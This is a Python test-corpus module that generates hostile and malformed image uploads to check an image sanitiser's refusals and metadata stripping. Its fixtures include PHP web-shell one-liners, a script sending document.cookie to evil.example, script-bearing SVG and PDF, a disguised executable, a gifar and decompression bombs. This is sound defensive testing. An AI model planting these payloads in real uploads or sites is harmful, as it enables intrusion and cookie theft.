"""A corpus of hostile, broken and awkward uploads for `liangpai.core.images`, built in code.

Every file is made here from Pillow, pillow-heif, zlib and byte strings: no binary fixture
comes from elsewhere. A `Sample` either must be refused (`code`) or must come out as a clean
re-encoding (`code is None`) in which none of its `payloads` survive.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field

from PIL import Image, ImageCms

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"

GPS_LATITUDE = 31.2304  # somewhere in the city: must never be published with a photo
SECRET = b"ZZSECRETZZ"  # a marker put in metadata; found in an output means metadata leaked


@dataclass(frozen=True)
class Sample:
    name: str
    filename: str
    data: bytes
    code: str | None = None  # the refusal expected; None when the file must be cleaned instead
    payloads: tuple[bytes, ...] = ()  # byte strings that must not appear in the cleaned output
    size: tuple[int, int] | None = None  # the cleaned image's expected (width, height)
    extension: str | None = None  # the cleaned image's expected extension
    tags: frozenset[str] = field(default_factory=frozenset)


# Building blocks ------------------------------------------------------------------------------


def picture(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    """A picture with structure (a gradient and a marked top-left corner), not a flat colour."""
    width, height = size
    gradient = Image.linear_gradient("L").resize(size)
    rgb = Image.merge("RGB", (gradient, gradient.transpose(Image.Transpose.ROTATE_90).resize(size), gradient))
    rgb.paste((255, 0, 0), (0, 0, max(1, width // 4), max(1, height // 4)))
    return rgb.convert(mode)


def encode(im: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    im.save(out, format=fmt, **options)
    return out.getvalue()


def exif(orientation: int = 1, *, gps: bool = True, description: bytes = SECRET) -> bytes:
    data = Image.Exif()
    data[0x0112] = orientation
    data[0x010F] = "PhoneMaker"
    data[0x010E] = description.decode() + " <script>alert(1)</script>"
    if gps:
        gps_ifd = data.get_ifd(0x8825)
        gps_ifd[1] = "N"
        gps_ifd[2] = (31.0, 13.0, 49.44)
        gps_ifd[3] = "E"
        gps_ifd[4] = (121.0, 28.0, 25.2)
    return data.tobytes()


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="31,13.824N">'
    + SECRET
    + b"</rdf:Description></rdf:RDF></x:xmpmeta>"
)


def icc_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def with_jpeg_segments(jpeg: bytes, *segments: bytes) -> bytes:
    """The JPEG with extra segments right after its SOI marker."""
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def with_png_chunks(png: bytes, *chunks: bytes) -> bytes:
    """The PNG with extra chunks right after IHDR."""
    after_ihdr = len(PNG_SIGNATURE) + 25
    return png[:after_ihdr] + b"".join(chunks) + png[after_ihdr:]


def raw_png(width: int, height: int, *, bit_depth: int = 8, colour_type: int = 0, rows: bytes | None = None) -> bytes:
    """A PNG written by hand: dimensions Pillow would never write, or image data made to measure."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[colour_type]
    if rows is None:
        row = b"\x00" + b"\x00" * (width * channels * bit_depth // 8)
        rows = row * height
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows, 9))
        + png_chunk(b"IEND", b"")
    )


def png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG that claims enormous dimensions (a decompression bomb's header)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_dimensions(width: int, height: int) -> bytes:
    """A small real JPEG whose SOF header is rewritten to claim other dimensions."""
    data = bytearray(encode(picture((16, 16)), "JPEG"))
    position = 2
    while position < len(data):
        marker = data[position + 1]
        length = struct.unpack(">H", data[position + 2 : position + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            data[position + 5 : position + 9] = struct.pack(">HH", height, width)
            return bytes(data)
        position += 2 + length
    raise AssertionError("no SOF marker")


def zip_archive(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def heif(im: Image.Image, **options: object) -> bytes:
    from pillow_heif import register_heif_opener  # only the HEIF samples need libheif

    register_heif_opener()
    return encode(im, "HEIF", quality=60, **options)


def animated(fmt: str, **options: object) -> bytes:
    frames = [picture((32, 32)), picture((32, 32)).transpose(Image.Transpose.ROTATE_180)]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0, **options)


def cmyk_jpeg() -> bytes:
    return encode(picture((40, 30), "CMYK"), "JPEG", quality=90)


def sixteen_bit_grey_png() -> bytes:
    """16-bit grey: 0x8000 is mid grey, which a clipping conversion would turn white."""
    rows = b"".join(b"\x00" + b"\x80\x00" * 20 for _ in range(10))
    return raw_png(20, 10, bit_depth=16, colour_type=0, rows=rows)


def sixteen_bit_rgb_png() -> bytes:
    rows = b"".join(b"\x00" + b"\xff\xff\x00\x00\x80\x00" * 20 for _ in range(10))
    return raw_png(20, 10, bit_depth=16, colour_type=2, rows=rows)


def palette_png_with_transparency() -> bytes:
    im = Image.new("P", (30, 20), 0)
    im.putpalette([255, 255, 255, 0, 0, 0] + [0] * 762)
    im.paste(1, (5, 5, 25, 15))
    return encode(im, "PNG", transparency=0)


def transparent_png(size: tuple[int, int] = (40, 30)) -> bytes:
    im = picture(size, "RGBA")
    im.putalpha(Image.linear_gradient("L").resize(size))
    return encode(im, "PNG")


def png_text_chunks() -> tuple[bytes, ...]:
    exif_payload = exif(6)[6:]  # the eXIf chunk holds the TIFF structure without the "Exif\0\0" prefix
    return (
        png_chunk(b"tEXt", b"Comment\x00" + SECRET + b"<?php system($_GET['c']); ?>"),
        png_chunk(b"zTXt", b"Author\x00\x00" + zlib.compress(SECRET)),
        png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + XMP),
        png_chunk(b"eXIf", exif_payload),
        png_chunk(b"iCCP", b"sRGB profile\x00\x00" + zlib.compress(icc_profile())),
        png_chunk(b"tIME", struct.pack(">HBBBBB", 2026, 5, 1, 8, 30, 0)),
    )


def ztxt_bomb_png() -> bytes:
    """A zTXt chunk that inflates to 64 MB."""
    bomb = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (64 * 1024 * 1024), 9))
    return with_png_chunks(encode(picture(), "PNG"), bomb)


def mp4_header() -> bytes:
    return struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00" + b"isomiso2" + b"\x00" * 64


def webp_with_huge_canvas() -> bytes:
    """A VP8X header that claims a 16384×16384 canvas around a tiny picture."""
    data = bytearray(encode(picture((16, 16)), "WEBP", exif=exif()))
    assert data[12:16] == b"VP8X"
    data[24:30] = (16383).to_bytes(3, "little") + (16383).to_bytes(3, "little")
    return bytes(data)


def orientation_samples() -> list[tuple[int, bytes]]:
    """For each EXIF orientation, a JPEG whose pixels are stored turned so that, once the
    orientation is applied, the red corner is at the top left of a 60×20 (wide) picture."""
    upright = Image.new("RGB", (60, 20), (128, 128, 128))
    upright.paste((255, 0, 0), (0, 0, 15, 5))
    inverse = {
        2: Image.Transpose.FLIP_LEFT_RIGHT,
        3: Image.Transpose.ROTATE_180,
        4: Image.Transpose.FLIP_TOP_BOTTOM,
        5: Image.Transpose.TRANSPOSE,
        6: Image.Transpose.ROTATE_90,
        7: Image.Transpose.TRANSVERSE,
        8: Image.Transpose.ROTATE_270,
    }
    samples = [(1, encode(upright, "JPEG", quality=95, exif=exif(1)))]
    for orientation, method in inverse.items():
        stored = upright.transpose(method)
        samples.append((orientation, encode(stored, "JPEG", quality=95, exif=exif(orientation))))
    return samples


# The corpus -----------------------------------------------------------------------------------

SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<script type="text/javascript">fetch("/accounts/").then(r=>r.text()).then(alert)</script>'
    b'<rect width="100" height="100" fill="red"/></svg>'
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>document.location='//evil.example/?'+document.cookie</script>"
PHP = b"<?php echo shell_exec($_GET['cmd']); ?>"
PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
JAR = zip_archive({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe\xba\xbe" + SECRET})


def malicious() -> list[Sample]:
    """Files that must be refused, each with the refusal's code."""
    jpeg = encode(picture((200, 150)), "JPEG", quality=90)
    progressive = encode(picture((200, 150)), "JPEG", quality=90, progressive=True)
    png = encode(picture((200, 150)), "PNG")
    webp = encode(picture((200, 150)), "WEBP")
    heic = heif(picture((64, 48)))
    gif = encode(picture((32, 32)), "GIF")
    start_of_scan = jpeg.index(b"\xff\xda")
    vp8 = webp.index(b"VP8 ") + 8
    mdat = heic.index(b"mdat") + 4
    return [
        Sample("zero bytes", "photo.jpg", b"", "empty"),
        Sample("two bytes of a jpeg", "photo.jpg", b"\xff\xd8", "not_an_image"),
        Sample("a jpeg's first three bytes", "photo.jpg", b"\xff\xd8\xff", "corrupt"),
        Sample("a png signature alone", "photo.png", PNG_SIGNATURE, "truncated"),
        Sample("svg with a script", "photo.svg", SVG_SCRIPT, "not_an_image"),
        Sample("svg with a script named .jpg", "photo.jpg", SVG_SCRIPT, "not_an_image"),
        Sample("html named .png", "photo.png", HTML_PAGE, "not_an_image"),
        Sample("php named .jpg", "photo.jpg", PHP, "not_an_image"),
        Sample("pdf with javascript named .jpg", "photo.jpg", PDF, "not_an_image"),
        Sample("windows executable named .jpg", "photo.jpg", EXE, "not_an_image"),
        Sample("zip named .jpg", "photo.jpg", zip_archive({"a.txt": b"hello"}), "not_an_image"),
        Sample("html page with a jpeg after it", "photo.jpg", HTML_PAGE + jpeg, "not_an_image"),
        Sample("mp4 video named .heic", "photo.heic", mp4_header(), "not_an_image"),
        # Its first segment length ("<!") runs past the end of the file.
        Sample("jpeg magic then html", "photo.jpg", b"\xff\xd8\xff\xe0" + HTML_PAGE, "truncated"),
        Sample("truncated baseline jpeg", "photo.jpg", jpeg[: len(jpeg) * 2 // 3], "truncated"),
        Sample("jpeg without its end marker", "photo.jpg", jpeg[:-2], "truncated"),
        Sample("truncated progressive jpeg", "photo.jpg", progressive[: len(progressive) // 2], "truncated"),
        Sample("jpeg cut in its header", "photo.jpg", jpeg[: start_of_scan - 10], "truncated"),
        Sample("truncated png", "photo.png", png[: len(png) // 2], "truncated"),
        Sample("png without IEND", "photo.png", png[:-12], "truncated"),
        Sample("truncated webp", "photo.webp", webp[: len(webp) // 2], "truncated"),
        Sample("truncated heic", "photo.heic", heic[: len(heic) - 40], "truncated"),
        Sample("png with a broken IHDR checksum", "photo.png", png[:29] + b"\x00\x00\x00\x00" + png[33:], "corrupt"),
        Sample("png with garbage compressed data", "photo.png", raw_png_with_garbage_idat(), "corrupt"),
        Sample("png of zero width", "photo.png", png_header_only(0, 10), "corrupt"),
        Sample(
            "webp with a broken frame header", "photo.webp", webp[:vp8] + b"\xff" * 10 + webp[vp8 + 10 :], "corrupt"
        ),
        Sample("heic with garbage image data", "photo.heic", heic[:mdat] + b"\xff" * (len(heic) - mdat), "corrupt"),
        Sample(
            "png bomb: 100000×100000 in a few bytes", "photo.png", png_header_only(100_000, 100_000), "too_many_pixels"
        ),
        Sample("png bomb: 10000×10000 in a few bytes", "photo.png", png_header_only(10_000, 10_000), "too_many_pixels"),
        Sample("png header 8000×7000 (56 MP)", "photo.png", png_header_only(8000, 7000), "too_many_pixels"),
        Sample("jpeg header 65000×65000", "photo.jpg", jpeg_with_dimensions(65_000, 65_000), "too_many_pixels"),
        Sample("jpeg header 9000×9000", "photo.jpg", jpeg_with_dimensions(9000, 9000), "too_many_pixels"),
        Sample("pixel flood: complete 8000×8000 png", "photo.png", raw_png(8000, 8000), "too_many_pixels"),
        Sample("webp with a 16383×16383 canvas", "photo.webp", webp_with_huge_canvas(), "too_many_pixels"),
        Sample("png with a 64 MB zTXt bomb", "photo.png", ztxt_bomb_png(), "corrupt"),
        Sample("animated webp", "photo.webp", animated("WEBP"), "animated"),
        Sample("animated png", "photo.png", animated("PNG"), "animated"),
        Sample("animated gif", "photo.gif", animated("GIF"), "unsupported_format"),
        Sample("gifar: gif with a jar appended", "photo.gif", gif + JAR, "unsupported_format"),
        Sample("bmp named .jpg", "photo.jpg", encode(picture(), "BMP"), "unsupported_format"),
        Sample("tiff", "photo.tif", encode(picture(), "TIFF"), "unsupported_format"),
        Sample("avif named .heic", "photo.heic", encode(picture(), "AVIF"), "unsupported_format"),
        Sample("random bytes named .jpg", "photo.jpg", bytes(range(256)) * 8, "not_an_image"),
        Sample("a real jpeg padded past 15 MB", "photo.jpg", jpeg + b"\x00" * (15 * 1024 * 1024), "too_large"),
    ]


def raw_png_with_garbage_idat() -> bytes:
    header = struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", b"\x78\x9c" + b"\xde\xad\xbe\xef" * 64)
        + png_chunk(b"IEND", b"")
    )


def acceptable() -> list[Sample]:
    """Files that are photos, however much is wrapped around them: each must come out clean."""
    jpeg = encode(picture((80, 60)), "JPEG", quality=90)
    png = encode(picture((80, 60)), "PNG")
    gps = exif(1)
    comment = jpeg_segment(0xFE, SECRET + b"<script>alert(1)</script>")
    xmp = jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP)
    photoshop = jpeg_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x10" + SECRET + b"\x00" * 6)
    icc = icc_profile()
    mpo_frames = [picture((80, 60)), picture((40, 30))]
    wide = picture((4000, 3000))
    return [
        Sample(
            "jpeg with a zip appended",
            "photo.jpg",
            jpeg + zip_archive({"x.php": PHP}),
            payloads=(b"PK\x03\x04", b"x.php"),
        ),
        Sample("jpeg with html and script appended", "photo.jpg", jpeg + HTML_PAGE, payloads=(b"<script", b"<html")),
        Sample(
            "jpeg with a jar appended (gifar-like)",
            "photo.jpg",
            jpeg + JAR,
            payloads=(b"PK\x03\x04", b"MANIFEST", SECRET),
        ),
        Sample("png with php after IEND", "photo.png", png + PHP, payloads=(b"<?php",)),
        Sample("png with a zip appended", "photo.png", png + zip_archive({"a": SECRET}), payloads=(b"PK\x03\x04",)),
        Sample("jpeg named .png", "photo.png", jpeg, extension=".jpg"),
        Sample("png named .jpg", "photo.jpg", png, extension=".jpg"),
        Sample(
            "jpeg with exif and gps",
            "photo.jpg",
            encode(picture((80, 60)), "JPEG", exif=gps),
            payloads=(SECRET, b"PhoneMaker"),
        ),
        Sample("jpeg with xmp", "photo.jpg", with_jpeg_segments(jpeg, xmp), payloads=(SECRET, b"xmpmeta")),
        Sample(
            "jpeg with an icc profile",
            "photo.jpg",
            encode(picture((80, 60)), "JPEG", icc_profile=icc),
            payloads=(b"ICC_PROFILE",),
        ),
        Sample(
            "jpeg with a comment segment", "photo.jpg", with_jpeg_segments(jpeg, comment), payloads=(SECRET, b"<script")
        ),
        Sample(
            "jpeg with a photoshop APP13", "photo.jpg", with_jpeg_segments(jpeg, photoshop), payloads=(SECRET, b"8BIM")
        ),
        Sample(
            "jpeg with everything",
            "photo.jpg",
            with_jpeg_segments(encode(picture((80, 60)), "JPEG", exif=gps, icc_profile=icc), xmp, comment, photoshop)
            + HTML_PAGE,
            payloads=(SECRET, b"8BIM", b"ICC_PROFILE", b"<script"),
        ),
        Sample("exif rotated jpeg", "photo.jpg", encode(picture((80, 60)), "JPEG", exif=exif(6)), size=(60, 80)),
        Sample("cmyk jpeg", "photo.jpg", cmyk_jpeg(), size=(40, 30)),
        Sample(
            "cmyk jpeg with a profile", "photo.jpg", encode(picture((40, 30), "CMYK"), "JPEG", icc_profile=b"junk" * 40)
        ),
        Sample("grey jpeg", "photo.jpg", encode(picture((40, 30), "L"), "JPEG")),
        Sample(
            "mpo: jpeg with a second picture",
            "photo.jpg",
            encode(mpo_frames[0], "MPO", save_all=True, append_images=mpo_frames[1:]),
            size=(80, 60),
        ),
        Sample("large jpeg, downscaled", "photo.jpg", encode(wide, "JPEG", quality=80), size=(2560, 1920)),
        Sample("16-bit grey png", "photo.png", sixteen_bit_grey_png(), extension=".jpg"),
        Sample("16-bit rgb png", "photo.png", sixteen_bit_rgb_png(), extension=".jpg"),
        Sample("palette png with transparency", "photo.png", palette_png_with_transparency(), extension=".png"),
        Sample("opaque rgba png", "photo.png", encode(picture((40, 30), "RGBA"), "PNG"), extension=".jpg"),
        Sample(
            "png with text, exif, icc and time chunks",
            "photo.png",
            with_png_chunks(transparent_png(), *png_text_chunks()),
            payloads=(SECRET, b"<?php", b"xmpmeta"),
            size=(30, 40),
            extension=".png",
        ),
        Sample("png with a dpi chunk", "photo.png", encode(picture((40, 30), "RGBA"), "PNG", dpi=(300, 300))),
        Sample(
            "webp with exif, xmp and icc",
            "photo.webp",
            encode(picture((80, 60)), "WEBP", exif=gps, xmp=XMP, icc_profile=icc),
            payloads=(SECRET, b"xmpmeta"),
        ),
        Sample(
            "lossless webp with transparency",
            "photo.webp",
            encode(Image.open(io.BytesIO(transparent_png())), "WEBP", lossless=True),
            extension=".png",
        ),
        Sample(
            "webp with data after its RIFF size",
            "photo.webp",
            encode(picture((40, 30)), "WEBP") + HTML_PAGE,
            payloads=(b"<script",),
        ),
        Sample(
            "heic with exif (gps, rotated) and xmp",
            "IMG_0001.HEIC",
            heif(picture((64, 48)), exif=exif(6), xmp=XMP),
            payloads=(SECRET, b"PhoneMaker", b"xmpmeta"),
            size=(48, 64),
            extension=".jpg",
        ),
        Sample("heic named .jpg", "photo.jpg", heif(picture((64, 48))), size=(64, 48)),
    ]
